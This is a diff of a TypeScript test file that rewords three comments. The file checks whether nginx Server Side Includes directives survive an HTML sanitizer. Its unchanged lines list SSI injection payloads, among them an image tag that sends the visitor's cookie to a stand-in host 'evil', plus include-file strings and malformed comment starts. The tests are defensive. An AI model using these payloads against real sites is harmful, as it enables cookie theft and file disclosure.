@@ -9,7 +9,7 @@ const UPLOAD = "virtual='/uploads/note.txt'";
 const COOKIE = 'echo var="http_cookie"';
 const harmless = (html: string) => html.replaceAll("<!--#", "<!-- #");
 
-/** What an author may write where a sanitizer keeps the text of attributes and comments. */
+/** Text that an author may write if a sanitizer keeps the text of attributes and comments. */
 const attacks: Record<string, string> = {
   "a cookie in an address": `<img src="http://evil/x?c=<!--# echo var='http_cookie' encoding='url' -->">`,
   "an upload in an attribute": `<p title="<!--# include ${UPLOAD} -->">`,
@@ -34,7 +34,7 @@ const attacks: Record<string, string> = {
   "a stub": `<!--# include virtual="/hs-fragments/guess/header" stub="a" set="b" wait="yes" -->`,
 };
 
-/** nginx itself may leave such beginnings out. */
+/** nginx itself may omit the start of such a tag. */
 const beginnings: Record<string, string> = {
   "a start in a start": `<<!<!-<!--<!--# ${COOKIE} -->`,
   "a start at the end": `<p>a</p><!--`,
@@ -109,7 +109,7 @@ describe.skipIf(!isInstalled(nginx))("nginx", () => {
 
   it("runs no command in a page that the site compresses without Accept-Encoding", async () => {
     const page = `<!--# ${COOKIE} -->`;
-    // Level 0 stores the text as it is.
+    // Level 0 stores the text unchanged.
     attacked.site.page("/gzip", gzipSync(page, { level: 0 }), { "content-encoding": "gzip" });
     const answer = await fetch(`http://127.0.0.1:${attacked.port}/gzip`, {
       headers: { cookie: "session=COOKIE" },
